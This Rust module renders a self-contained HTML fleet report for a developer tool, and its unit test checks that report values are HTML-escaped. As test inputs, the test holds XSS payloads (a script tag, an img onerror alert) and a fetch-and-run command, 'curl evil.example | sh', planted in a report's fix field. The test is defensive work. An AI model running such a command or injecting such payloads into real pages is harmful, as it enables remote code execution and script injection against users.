//! `devbox fleet --html FILE`: one self-contained page (no script, nothing fetched from
//! elsewhere; its Content-Security-Policy forbids both). Every value from a report is escaped by
//! the template engine, which escapes all output of an `.html` template.

use serde::Serialize;

use super::view::Summary;

const TEMPLATE: &str = include_str!("../../templates/fleet.html");

#[derive(Serialize)]
struct Page<'a> {
    s: &'a Summary,
    generated: String,
    source: &'a str,
    /// The busiest day of the timeline, so its bar is full height.
    peak: usize,
}

/// The page for `summary`, read from `source` ("bucket/prefix") at `now`.
pub fn render(summary: &Summary, source: &str, now: jiff::Timestamp) -> anyhow::Result<String> {
    let peak = summary.timeline.iter().map(|d| d.reports).max().unwrap_or(0).max(1);
    let generated = now.strftime("%Y-%m-%d %H:%M UTC").to_string();
    crate::templates::render("fleet.html", TEMPLATE, Page { s: summary, generated, source, peak })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fleet::read::judge;
    use crate::fleet::view::summary;

    #[test]
    fn report_values_are_escaped_and_the_page_is_self_contained() {
        let name = r#"<script>document.title='pwned'</script><img src=x onerror=alert(1)>"#;
        let body = format!(
            r#"{{"schema":1,"machine_id":"m1","name":{},"devbox_version":"0.1.0\"><em>","os":"linux","engine":null,
            "ran_at":"2026-11-28T10:00:00Z","checks":[{{"id":"clock<i>","status":"fail","summary":"off"}},
              {{"id":"clock","status":"fail","summary":"run this","fix":"curl evil.example | sh"}}],
            "images":[{{"name":"base/<u>x</u>","local":null,"registry":null}}],"clocks":{{}},"disk":null}}"#,
            serde_json::to_string(name).expect("json")
        );
        let m = "devbox/fleet/machines/";
        let judged = vec![
            judge(m, "devbox/fleet/machines/AIDA1/m1.json", None, body.as_bytes()),
            judge(m, "devbox/fleet/machines/AIDA1/<k>.json", None, b"<not json>"),
        ];
        let now: jiff::Timestamp = "2026-11-28T12:00:00Z".parse().expect("time");
        let current = [("base/<u>x</u>".to_string(), None)];
        let s = summary(&judged, now, std::time::Duration::from_secs(86_400), &current, None);
        let page = render(&s, "b/devbox/fleet/", now).expect("renders");
        for markup in ["<script>", "<img", "<em>", "<i>", "<u>", "<k>", "<not json>"] {
            assert!(!page.contains(markup), "{markup} reached the page unescaped");
        }
        assert!(page.contains("&lt;script&gt;"), "the name is shown, escaped");
        assert!(!page.contains("http://") && !page.contains("https://"), "nothing is fetched from elsewhere");
        assert!(page.contains("<table id=\"checks\">"));
        // The machine's own words are shown as such; devbox's fix for a check it knows is its own.
        assert!(page.contains("<td><code>devbox doctor --check clock --fix</code></td>"), "{page}");
        assert!(page.contains("<q class=\"reported\">curl evil.example | sh</q>"), "{page}");
    }
}
